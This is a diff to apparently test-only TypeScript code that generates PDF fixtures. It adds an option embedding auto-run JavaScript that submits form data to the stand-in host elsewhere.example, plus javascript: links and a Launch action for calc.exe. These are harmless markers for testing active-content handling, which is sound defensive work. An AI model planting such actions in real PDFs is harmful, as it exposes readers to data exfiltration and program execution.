@@ -10,6 +10,8 @@ type LargeReport = {
   listing?: Listing;
   /** The word before the number of each page. */
   word?: string;
+  /** Scripts that run when it is opened, and links all over each page. */
+  isActive?: boolean;
 };
 
 /**
@@ -17,24 +19,56 @@ type LargeReport = {
  * The pages bear 'word n' in Helvetica, which the file does not bring along.
  */
 export function largeReport(wanted: LargeReport): Buffer {
-  const { pages, perPage, listing = 'table', word = 'Feuille' } = wanted;
+  const { pages, perPage, listing = 'table', word = 'Feuille', isActive = false } = wanted;
   const side = Math.floor(Math.sqrt(perPage));
   const picture = randomFillSync(Buffer.alloc(side * side));
   const numbers = Array.from({ length: pages }, (_, index) => 4 + index * 3);
   const kids = numbers.map((number) => `${number} 0 R`).join(' ');
   const objects: Buffer[] = [
-    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
+    Buffer.from(`<< /Type /Catalog /Pages 2 0 R ${isActive ? opened : ''} >>`),
     Buffer.from(`<< /Type /Pages /Count ${pages} /Kids [${kids}] >>`),
     Buffer.from('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'),
   ];
   for (const [index, number] of numbers.entries()) {
     const own = `<< /Font << /F 3 0 R >> /XObject << /I ${number + 2} 0 R >> >>`;
-    const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources ${own} /Contents ${number + 1} 0 R >>`;
+    const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources ${own} /Contents ${number + 1} 0 R ${isActive ? links : ''} >>`;
     const drawn = `q 300 0 0 300 140 280 cm /I Do Q BT /F 24 Tf 72 740 Td (${word} ${index + 1}) Tj ET`;
     const image = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8`;
     objects.push(Buffer.from(page), stream('', Buffer.from(drawn)), stream(image, picture));
   }
   return listed(objects, listing);
+}
+
+const script =
+  '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.example"\\))';
+const opened = `/OpenAction << ${script} >> /AA << /WC << ${script} >> >>`;
+const links = `/AA << /O << ${script} >> >> /Annots [${[
+  script,
+  '/S /URI /URI (javascript:alert\\(1\\))',
+  '/S /URI /URI (https://elsewhere.example/)',
+  '/S /Launch /F (calc.exe)',
+]
+  .map((action) => `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>`)
+  .join(' ')}]`;
+
+/**
+ * A PDF with one picture as fax machines and scanners write them, black on half of its page. Its first
+ * rows repeat the white line before them (a bit for each), and white is told to be black.
+ */
+export function scannedReport(): Buffer {
+  const side = 64;
+  const image = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0] /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns ${side} /Rows ${side} >>`;
+  const rows = Buffer.concat([Buffer.alloc(side / 8, 0xff), Buffer.from([0x00, 0x10, 0x01])]);
+  const objects = [
+    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
+    Buffer.from('<< /Type /Pages /Count 1 /Kids [3 0 R] >>'),
+    Buffer.from(
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R >>',
+    ),
+    stream(image, rows),
+    stream('', Buffer.from('q 400 0 0 400 90 300 cm /I Do Q')),
+  ];
+  return listed(objects, 'table');
 }
 
 /** A PDF that asks for a password, as its reader finds before anything is read with it. */
